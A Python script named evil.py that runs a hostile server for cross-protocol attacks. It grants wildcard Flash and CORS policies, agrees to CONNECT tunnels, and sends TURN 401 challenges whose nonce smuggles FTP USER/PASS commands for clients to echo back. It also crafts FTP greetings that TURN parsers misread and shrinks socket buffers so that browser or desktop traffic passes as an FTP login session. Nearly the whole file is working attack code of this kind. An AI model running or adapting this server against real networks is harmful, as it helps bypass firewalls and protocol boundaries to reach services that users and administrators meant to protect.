r"""The server of content that would like to be taken for a desktop program: evil.py ADDRESS [MANNER:]PORT...

It answers what FTP commands it finds in whatever it gets, HTTP, TURN or lines, as an FTP server answers a good client, so that
the two together look like a session. It grants any policy and any cross-origin request, agrees to a CONNECT, and asks TURN
clients for their credentials, in a nonce of its own choice, which they send back. What it does besides at a port:

greet    says 220 before it is asked
bold     says 220 and 331, and answers every line
after    says 220 and 331 on the connection behind a preflight
narrow   does as well, and takes in no more than the first line of the request there, which it answers with 230"""
import re
import selectors
import socket
import struct
import sys
import threading
import time

POLICY = b'<?xml version="1.0"?><cross-domain-policy><allow-access-from domain="*" to-ports="*"/></cross-domain-policy>\0'
PREFLIGHT = (b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Methods: *, USER, PASS, FEAT, SITE\r\n"
             b"Access-Control-Allow-Headers: *\r\nAccess-Control-Max-Age: 0\r\nConnection: close\r\n\r\n")
ARCHIVE = b"HTTP/1.1 200 OK\r\nContent-Type: application/java-archive\r\nContent-Length: 4\r\n\r\nPK\3\4"
TUNNEL = b"HTTP/1.1 200 Connection established\r\n\r\n"
REPLIES = {b"USER": b"331 Please specify the password.", b"PASS": b"230 Login successful.", b"SYST": b"215 UNIX Type: L8",
           b"FEAT": b"211-Features:\r\n UTF8\r\n211 End", b"TYPE": b"200 Switching to Binary mode.",
           b"PWD": b'257 "/" is the current directory', b"QUIT": b"221 Goodbye."}
COOKIE = 0x2112A442
TURN_PORTS = (2123, 2124, 2127, 4512)
NONCE = b"\r\nUSER alice\r\nPASS sandbar\r\nFEAT\r\nPWD\r\n"


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)


def challenge(transaction):
    """401 to an Allocate: the client answers with USERNAME, REALM and NONCE."""
    body = attribute(0x0009, b"\0\0\x04\x01Unauthorized") + attribute(0x0014, b"lab") + attribute(0x0015, NONCE)
    return struct.pack("!HHI", 0x0113, len(body), COOKIE) + transaction + body


def greeting(port, manner):
    """For a TURN client a first message that it passes over: 0x3232 is its type, 0x3020 ("0 " of "220 ") its length."""
    lines = b"220 FTP server ready.\r\n" + (b"" if manner == "greet" else REPLIES[b"USER"] + b"\r\n")
    return lines if port not in TURN_PORTS else (lines + b"200").ljust(0x3020 + 20 - 2) + b"\r\n"


def serve(connection, port, manner):
    with connection:
        greeted = manner in ("greet", "bold") or port in asked
        if greeted:
            connection.sendall(greeting(port, manner))
        if manner == "narrow" and greeted:
            taken = connection.recv(8, socket.MSG_PEEK)  # nothing is read, so nothing more fits in
            if taken:  # sockets that a browser opens ahead do not count
                asked.discard(port)
            if taken.startswith(b"PASS "):
                time.sleep(0.1)
                connection.sendall(REPLIES[b"PASS"] + b"\r\n")
                time.sleep(0.3)
            return
        if manner != "narrow":
            asked.discard(port)
        while data := connection.recv(4096):
            if data.startswith(b"<policy-file-request/>"):
                connection.sendall(POLICY)
                return
            if data.startswith(b"OPTIONS "):
                asked.update({port} if manner in ("after", "narrow") else ())
                connection.sendall(PREFLIGHT)
                return
            if data.startswith((b"GET /applet.jar", b"CONNECT ")):
                connection.sendall(ARCHIVE if data[0] == ord("G") else TUNNEL)
                continue
            if data[:2] == b"\0\x03" and NONCE not in data:
                connection.sendall(challenge(data[8:20]))
                continue
            for line in re.split(rb"\r?\n", data.rstrip(b"\r\n")):
                reply = REPLIES.get(line.split(b" ")[0], b"500 Unknown command." if manner == "bold" else b"")
                connection.sendall(reply and reply + b"\r\n")


asked = set()
selector = selectors.DefaultSelector()
for argument in sys.argv[2:]:
    manner, _, port = argument.rpartition(":")
    listener = socket.create_server((sys.argv[1], int(port)))
    if manner == "narrow":
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the kernel gives a little more
    selector.register(listener, selectors.EVENT_READ, manner)
while True:
    for key, _ in selector.select():
        connection = key.fileobj.accept()[0]
        threading.Thread(target=serve, args=(connection, key.fileobj.getsockname()[1], key.data), daemon=True).start()
